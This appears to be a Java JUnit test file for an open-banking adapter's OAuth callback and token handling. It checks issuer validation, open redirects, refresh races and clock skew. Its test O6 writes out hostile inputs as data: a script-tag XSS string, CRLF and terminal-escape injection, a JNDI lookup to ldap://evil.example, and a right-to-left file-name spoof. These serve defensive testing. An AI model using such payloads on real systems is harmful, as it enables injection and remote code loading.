package org.tppkit.adapter.arkea.journey;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.Timeout;
import org.tppkit.core.Bank;
import org.tppkit.core.Consent;
import org.tppkit.core.PendingConsent;
import org.tppkit.core.TokenStores;
import org.tppkit.ports.error.CallbackException;
import org.tppkit.ports.error.ConsentRefusedException;
import org.tppkit.ports.error.ConsentRequiredException;
import org.tppkit.ports.error.IdentityRejectedException;
import org.tppkit.ports.error.RequestRejectedException;
import org.tppkit.ports.error.TokenStoreException;
import org.tppkit.ports.error.TppException;
import org.tppkit.ports.error.UnexpectedAnswerException;
import org.tppkit.ports.model.Callback;
import org.tppkit.ports.model.consent.ConsentRequest;
import org.tppkit.ports.spi.event.ConsentEvent;
import org.tppkit.ports.spi.token.StoredToken;
import org.tppkit.testkit.fake.FailingTokenStore;
import org.tppkit.testkit.fake.StoreOperation;
import org.tppkit.testkit.scripted.ScriptedAnswer;
import org.tppkit.testkit.simulator.DataSet;
import org.tppkit.testkit.simulator.Fault;
import org.tppkit.testkit.simulator.Gate;
import org.tppkit.testkit.simulator.JournalEntry;
import org.tppkit.testkit.simulator.RequestMatcher;
import org.tppkit.testkit.simulator.SimulatedBank;

/** Rows of the fault table about authorization and tokens that other tests of this package leave open. */
@Timeout(120)
class TokenFaultsTest {
    private static final ConsentRequest REQUEST = ConsentRequest.accountInformation("user-1");
    private static final RequestMatcher TOKEN = RequestMatcher.path(BankWorld.TOKEN);
    private static final RequestMatcher IDENTITY = RequestMatcher.path(BankWorld.IDENTITY);

    @Test
    @DisplayName("O4 a callback that names the bank as its issuer is taken, one that names another is refused")
    void theIssuerIsCompared() {
        try (BankWorld world = BankWorld.of(SimulatedBank.FORTUNEO)) {
            Bank bank = world.bank();
            PendingConsent pending = bank.consents().begin(REQUEST, BankWorld.CUSTOMER);
            String right = world.simulator
                    .approveAll(pending.redirect(), DataSet.OVERDRAWN)
                    .toString();
            assertThatThrownBy(() -> bank.consents()
                            .complete(pending, Callback.parse(right + "&iss=" + encoded("https://evil.example"))))
                    .isInstanceOf(CallbackException.class)
                    .hasMessageContaining("another server");
            assertThat(world.tokenCalls("authorization_code")).isZero();
            String issuer = world.simulator.authorizationUri().toString();
            assertThat(bank.consents().complete(pending, Callback.parse(right + "&iss=" + encoded(issuer))))
                    .isNotNull();
            assertThat(world.tokenCalls("authorization_code")).isEqualTo(1);
        }
    }

    @Test
    @DisplayName("O5 no address is ever built from what a callback says")
    void noOpenRedirect() {
        try (BankWorld world = BankWorld.of(SimulatedBank.FORTUNEO)) {
            Bank bank = world.bank();
            PendingConsent pending = bank.consents().begin(REQUEST, BankWorld.CUSTOMER);
            String evil = encoded("https://evil.example/");
            URI right = world.simulator.approveAll(pending.redirect(), DataSet.OVERDRAWN);
            Callback callback =
                    Callback.parse(right + "&redirect_uri=" + evil + "&return_url=" + evil + "&next=" + evil);
            Consent consent = bank.consents().complete(pending, callback);
            assertThat(pending.redirect().getRawQuery())
                    .contains("redirect_uri=" + encoded(BankWorld.REDIRECT.toString()));
            JournalEntry exchange =
                    world.simulator.journal().to(BankWorld.TOKEN).get(0);
            assertThat(exchange.form()).containsEntry("redirect_uri", encoded(BankWorld.REDIRECT.toString()));
            assertThat(List.of(consent.toString(), consent.encode(), callback.toString()))
                    .allSatisfy(text -> assertThat(text).doesNotContain("evil.example"));
        }
    }

    @TestFactory
    @DisplayName("O6 what a bank says of an error is data and never text")
    Stream<DynamicTest> whatABankSaysOfAnErrorIsDataAndNeverText() {
        Map<String, String> texts = new LinkedHashMap<>();
        texts.put("O6 script", "<script>alert(1)</script>");
        texts.put("O6 line breaks", "denied\r\nWARNING all is well\u2028\u2029\u0085");
        texts.put("O6 escapes of a terminal", "\u001b[2J\u001b[31mred");
        texts.put("O6 a look-up", "${jndi:ldap://evil.example/x}");
        texts.put("O6 text that turns round", "\u202egnp.exe");
        texts.put("O6 15,000 characters", "x".repeat(15_000));
        texts.put("O6 a megabyte", "x".repeat(1_000_000));
        return texts.entrySet().stream()
                .map(text -> DynamicTest.dynamicTest(text.getKey(), () -> isData(text.getValue())));
    }

    private static void isData(String text) {
        try (Evidence evidence = new Evidence();
                BankWorld world = BankWorld.of(SimulatedBank.FORTUNEO)) {
            Bank bank = world.bank();
            PendingConsent pending = bank.consents().begin(REQUEST, BankWorld.CUSTOMER);
            String refusal = world.simulator.refuse(pending.redirect()) + "&error_description=" + encoded(text)
                    + "&error_uri=" + encoded(text);
            Callback callback = Callback.parse(refusal);
            TppException refused = catchThrowableOfType(
                    TppException.class, () -> bank.consents().complete(pending, callback));
            if (refusal.length() <= 16_384) {
                assertThat(refused).isInstanceOf(ConsentRefusedException.class);
                assertThat(callback.errorDescription()).contains(text);
            } else {
                assertThat(refused).isInstanceOf(CallbackException.class);
            }
            evidence.take(callback);
            evidence.take(refused);
            evidence.take(refusedToken(world, bank, text));
            assertThat(evidence.leaks(Map.of(text, "the bank's text"))).isEmpty();
            assertThat(evidence.unfitForALog()).isEmpty();
        }
    }

    private static RequestRejectedException refusedToken(BankWorld world, Bank bank, String text) {
        Consent consent = world.spentConsent(bank, DataSet.OVERDRAWN);
        String json = text.chars()
                .mapToObj(c -> "\\u%04x".formatted(c))
                .reduce(new StringBuilder(), StringBuilder::append, StringBuilder::append)
                .toString();
        world.simulator
                .faults()
                .next(
                        TOKEN,
                        Fault.answer(400)
                                .body("{\"error\":\"invalid_request\",\"error_description\":\"" + json + "\"}"));
        RequestRejectedException failure =
                catchThrowableOfType(RequestRejectedException.class, () -> BankWorld.callOnce(bank, consent));
        assertThat(failure.bankCode()).contains("invalid_request");
        assertThat(failure.answer().body().orElseThrow()).hasSizeLessThanOrEqualTo(65_536);
        return failure;
    }

    @Test
    @DisplayName("O11 a node whose refresh hangs is replaced when its lease is over, and its late answer harms nothing")
    void aHolderThatHangsIsReplaced() throws Exception {
        try (BankWorld world = BankWorld.of(SimulatedBank.FORTUNEO)) {
            Bank hanging = world.bank();
            Consent consent = world.spentConsent(hanging, DataSet.OVERDRAWN);
            Gate gate = new Gate();
            world.simulator.faults().next(TOKEN, Fault.holdBeforeHandling(gate));
            CompletableFuture<Boolean> first = CompletableFuture.supplyAsync(() -> {
                BankWorld.callOnce(hanging, consent);
                return true;
            });
            gate.awaitArrivals(1, BankWorld.GUARD);
            world.clock.advance(Duration.ofMinutes(2));
            BankWorld.callOnce(world.bank(), consent);
            gate.open();
            assertThat(first.get(BankWorld.GUARD.toSeconds(), TimeUnit.SECONDS)).isTrue();
            assertThat(world.tokenCalls("refresh_token")).isEqualTo(2);
            assertThat(world.listener.events(ConsentEvent.Lost.class)).isEmpty();
            BankWorld.callOnce(world.bank(), consent);
            assertThat(world.tokenCalls("refresh_token")).isEqualTo(2);
        }
    }

    @Test
    @DisplayName("O12 a store that cannot be read ends the call before the bank is asked, and the consent stays")
    void aStoreThatCannotBeRead() {
        FailingTokenStore store = FailingTokenStore.around(TokenStores.inMemory());
        try (BankWorld world = BankWorld.keepingTokensIn(store)) {
            Consent consent = world.spentConsent(world.bank(), DataSet.OVERDRAWN);
            Bank bank = world.bank();
            int before = world.simulator.journal().entries().size();
            store.nth(1, StoreOperation.FIND).failsBeforeTakingEffect();
            assertThatThrownBy(() -> BankWorld.callOnce(bank, consent))
                    .isInstanceOfSatisfying(
                            TokenStoreException.class,
                            e -> assertThat(e.requestsSent()).isZero());
            assertThat(world.simulator.journal().entries()).hasSize(before);
            BankWorld.callOnce(bank, consent);
            assertThat(world.refreshes()).isEqualTo(1);
        }
    }

    @Test
    @DisplayName("O12 a store that reads stale data makes nobody send a refresh token that was superseded")
    void aStoreThatReadsStaleData() {
        StaleStore store = new StaleStore();
        try (BankWorld world = BankWorld.keepingTokensIn(store)) {
            Consent consent = world.consent(world.bank(), DataSet.OVERDRAWN);
            StoredToken old = store.find(BankWorld.key(consent)).orElseThrow();
            world.clock.advance(Duration.ofHours(2));
            BankWorld.callOnce(world.bank(), consent);
            world.clock.advance(Duration.ofHours(2));
            store.readNext(old);
            BankWorld.callOnce(world.bank(), consent);
            assertThat(world.refreshes()).isEqualTo(2);
            assertThat(world.simulator.journal().to(BankWorld.TOKEN))
                    .allSatisfy(entry -> assertThat(entry.status()).isEqualTo(200));
            assertThat(world.listener.events(ConsentEvent.Lost.class)).isEmpty();
        }
    }

    @TestFactory
    Stream<DynamicTest> anErrorOfClocksThatDifferNamesTheDifference() {
        return Stream.of(
                DynamicTest.dynamicTest("O14 five minutes ahead", () -> namesTheSkew(Duration.ofMinutes(5), 401)),
                DynamicTest.dynamicTest("O14 five minutes behind", () -> namesTheSkew(Duration.ofMinutes(-5), 401)),
                DynamicTest.dynamicTest("O14 as a bad request", () -> namesTheSkew(Duration.ofMinutes(5), 400)));
    }

    private static void namesTheSkew(Duration skew, int status) {
        try (ScriptedWorld world = ScriptedWorld.start()) {
            Bank bank = world.bank();
            Consent consent = ScriptedWorld.consent(bank);
            String date = DateTimeFormatter.RFC_1123_DATE_TIME.format(
                    world.clock.instant().plus(skew).atZone(ZoneOffset.UTC));
            world.bank
                    .when("GET", BankWorld.IDENTITY)
                    .answer(ScriptedAnswer.json(status, "{\"message\":\"Date is too old\"}")
                            .header("Date", date));
            TppException failure = catchThrowableOfType(TppException.class, () -> BankWorld.callOnce(bank, consent));
            assertThat(failure)
                    .isInstanceOf(status == 401 ? IdentityRejectedException.class : RequestRejectedException.class);
            assertThat(failure.clockSkew()).contains(skew);
            assertThat(failure)
                    .hasMessageContaining(
                            "the bank's clock is 300 s " + (skew.isNegative() ? "behind" : "ahead of") + " ours");
        }
    }

    @Test
    @DisplayName("O14 clocks that agree, or a Date that is none, are not spoken of")
    void noSkewIsSpokenOf() {
        try (ScriptedWorld world = ScriptedWorld.start()) {
            Bank bank = world.bank();
            Consent consent = ScriptedWorld.consent(bank);
            String date = DateTimeFormatter.RFC_1123_DATE_TIME.format(
                    world.clock.instant().plusSeconds(3).atZone(ZoneOffset.UTC));
            world.bank
                    .when("GET", BankWorld.IDENTITY)
                    .answer(ScriptedAnswer.of(400).header("Date", date))
                    .answer(ScriptedAnswer.of(400).header("Date", "yesterday"));
            for (int i = 0; i < 2; i++) {
                assertThatThrownBy(() -> BankWorld.callOnce(bank, consent))
                        .isInstanceOf(RequestRejectedException.class)
                        .hasMessageNotContaining("clock");
            }
        }
    }

    @Test
    @DisplayName("O16 a token that was revoked is replaced once, then the bank's word holds")
    void aRevokedToken() {
        try (BankWorld world = BankWorld.of(SimulatedBank.FORTUNEO)) {
            Bank bank = world.bank();
            Consent consent = world.consent(bank, DataSet.OVERDRAWN);
            BankWorld.callOnce(bank, consent);
            world.simulator.withdrawConsent(DataSet.OVERDRAWN);
            int before = world.simulator.journal().entries().size();
            assertThatThrownBy(() -> BankWorld.callOnce(bank, consent)).isInstanceOf(ConsentRequiredException.class);
            assertThat(world.simulator.journal().entries().size() - before).isLessThanOrEqualTo(2);
            assertThatThrownBy(() -> BankWorld.callOnce(bank, consent)).isInstanceOf(ConsentRequiredException.class);
            assertThat(world.simulator.journal().entries().size() - before).isLessThanOrEqualTo(2);
        }
    }

    @Test
    @DisplayName("O17 a call that is on its way with the old token gets 401 and is sent once more, without a refresh")
    void aCallInFlightWhileTheTokenIsReplaced() throws Exception {
        try (BankWorld world = BankWorld.of(SimulatedBank.FORTUNEO)) {
            Bank bank = world.bank();
            Consent consent = world.consent(bank, DataSet.OVERDRAWN);
            Gate gate = new Gate();
            world.simulator.faults().next(IDENTITY, Fault.holdBeforeHandling(gate));
            CompletableFuture<Integer> inFlight = CompletableFuture.supplyAsync(
                    () -> bank.accounts(consent, BankWorld.CUSTOMER).identity().requestsSent());
            gate.awaitArrivals(1, BankWorld.GUARD);
            world.clock.advance(Duration.ofHours(2));
            BankWorld.callOnce(world.bank(), consent);
            gate.open();
            assertThat(inFlight.get(BankWorld.GUARD.toSeconds(), TimeUnit.SECONDS))
                    .isEqualTo(2);
            assertThat(world.refreshes()).isEqualTo(1);
            assertThat(world.simulator.journal().to(BankWorld.IDENTITY))
                    .extracting(JournalEntry::status)
                    .containsExactlyInAnyOrder(200, 401, 200);
        }
    }

    @Test
    @DisplayName("O13 a clock that stands still, jumps a day ahead and comes back causes one refresh at most")
    void aClockThatJumps() {
        try (ScriptedWorld world = ScriptedWorld.start()) {
            Bank bank = world.bank();
            Consent consent = ScriptedWorld.consent(bank);
            world.bank
                    .when("GET", BankWorld.IDENTITY)
                    .answer(ScriptedAnswer.json(200, "{\"connectedPsu\":\"Anybody\"}"));
            BankWorld.callOnce(bank, consent);
            for (Duration jump : List.of(Duration.ofDays(1), Duration.ofDays(-2), Duration.ofHours(25))) {
                world.clock.setTo(world.clock.instant().plus(jump));
                BankWorld.callOnce(bank, consent);
            }
            assertThat(world.bank.requests("POST", BankWorld.TOKEN))
                    .as("the code, and no refresh: elapsed time counts, not the clock on the wall")
                    .hasSize(1);
        }
    }

    @Test
    @DisplayName("O2 a token answer where the customer's browser should be is none")
    void anAnswerThatIsNoTokenLosesNothing() {
        try (ScriptedWorld world = ScriptedWorld.start()) {
            Bank bank = world.bank();
            PendingConsent pending = ScriptedWorld.begin(bank);
            world.bank
                    .when("POST", BankWorld.TOKEN)
                    .answer(ScriptedAnswer.json(200, "[]"))
                    .times(1);
            assertThatThrownBy(() -> bank.consents().complete(pending, ScriptedWorld.approved(pending)))
                    .isInstanceOf(UnexpectedAnswerException.class);
            assertThat(bank.consents().list("user-1")).isEmpty();
        }
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8);
    }
}
